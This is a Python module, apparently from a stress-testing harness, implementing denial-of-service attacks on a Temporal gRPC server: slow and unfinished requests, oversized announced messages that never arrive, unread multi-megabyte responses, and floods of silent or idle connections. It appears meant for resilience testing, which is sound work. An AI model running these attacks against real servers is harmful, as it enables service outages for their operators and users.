"""What is done to the server. Each attack leaves its connections for `release`, and says what came back."""

from __future__ import annotations

import collections
import socket
import struct
import time
from typing import Any

from temporalio.api.workflowservice.v1 import request_response_pb2 as messages

import shapes
from connection import Connection, message

HEALTH, REFLECTION = "grpc.health.v1.Health", "grpc.reflection.v1.ServerReflection"
MIB = 1 << 20


class Attacks:
    """Attacks on one address. What they hold open is closed by `release`."""

    def __init__(self, address: tuple[str, int], scale: float):
        self.address = address
        self.scale = scale
        self.held: list[Any] = []

    def count(self, whole: int) -> int:
        return max(2, int(whole * self.scale))

    def connect(self, **options: Any) -> Connection:
        connection = Connection(self.address, **options)
        self.held.append(connection)
        return connection

    def release(self) -> None:
        for held in self.held:
            held.close()
        self.held.clear()

    def shape(self, method: str, path: tuple[Any, ...]) -> int | None:
        """One request that is all elements of one field. The gRPC status."""
        answer = self.connect().call(method, shapes.full(path, shapes.REQUEST_BYTES - 64))
        self.release()
        return answer.code

    def same_shape_at_once(self) -> str:
        """Large decoded requests side by side."""
        method, _, path = next(shape for shape in shapes.every_shape() if shape[1] == "commands")
        content = message(shapes.full(path, shapes.REQUEST_BYTES - 64))
        connections = [self.connect() for _ in range(self.count(32))]
        streams = [(connection, connection.open(method)) for connection in connections]
        for connection, stream in streams:
            connection.send(stream, content, end=True)
        return self.codes(connection.finish(stream).code for connection, stream in streams)

    def announced(self) -> str:
        """Messages that are announced as large as they may be, of which nothing follows."""
        prefix = struct.pack(">BI", 0, 4 * MIB)
        streams = []
        for _ in range(self.count(8)):
            connection = self.connect()
            for service, method in ((HEALTH, "Check"), (REFLECTION, "ServerReflectionInfo")):
                for _ in range(10):
                    streams.append((connection, connection.open(method, service)))
            for _ in range(60):
                streams.append((connection, connection.open("StartWorkflowExecution")))
            for _, stream in streams[-80:]:
                connection.send(stream, prefix)
        return f"{len(streams)} announced, {self.codes(self.looked_at(streams))}"

    def unfinished(self) -> str:
        """Requests of which all but the last byte is sent."""
        content = message(bytes(4 * MIB - 64))[:-1]
        streams = []
        for _ in range(self.count(40)):
            connection = self.connect()
            for _ in range(4):
                stream = connection.open("StartWorkflowExecution")
                streams.append((connection, stream))
                if not connection.send(stream, content, give_up_after_s=0.5):
                    break
        return f"{len(streams)} begun, {self.codes(self.looked_at(streams))}"

    def unread(self, workflow_id: str) -> str:
        """Answers of megabytes that are not read."""
        request = messages.GetWorkflowExecutionHistoryRequest(namespace="default")
        request.execution.workflow_id = workflow_id
        content = message(request.SerializeToString())
        streams = []
        for _ in range(self.count(20)):
            connection = self.connect(stream_window=1, acknowledge=False)
            for _ in range(20):
                stream = connection.open("GetWorkflowExecutionHistory")
                connection.send(stream, content, end=True)
                streams.append((connection, stream))
        time.sleep(1)
        return f"{len(streams)} asked, {self.codes(self.looked_at(streams))}"

    def silent(self) -> str:
        """Connections that say nothing, or one byte of the preface at a time."""
        for number in range(self.count(400)):
            quiet = socket.create_connection(self.address, timeout=5)
            self.held.append(quiet)
            if number % 2:
                quiet.sendall(b"PRI")
        return f"{len(self.held)} open"

    def idle(self) -> str:
        """Connections whose handshake is complete, without requests."""
        for _ in range(self.count(400)):
            self.connect()
        return f"{len(self.held)} open"

    def looked_at(self, streams: list[tuple[Connection, int]]) -> list[int | None]:
        """The status of each, as far as one has come by now."""
        for connection, _ in streams:
            while not connection.closed and connection.receive(0.01):
                pass
        return [connection.answers[stream].code for connection, stream in streams]

    @staticmethod
    def codes(found: Any) -> str:
        counted = collections.Counter("unanswered" if code is None else f"code {code}" for code in found)
        return ", ".join(f"{count} {what}" for what, count in sorted(counted.items()))
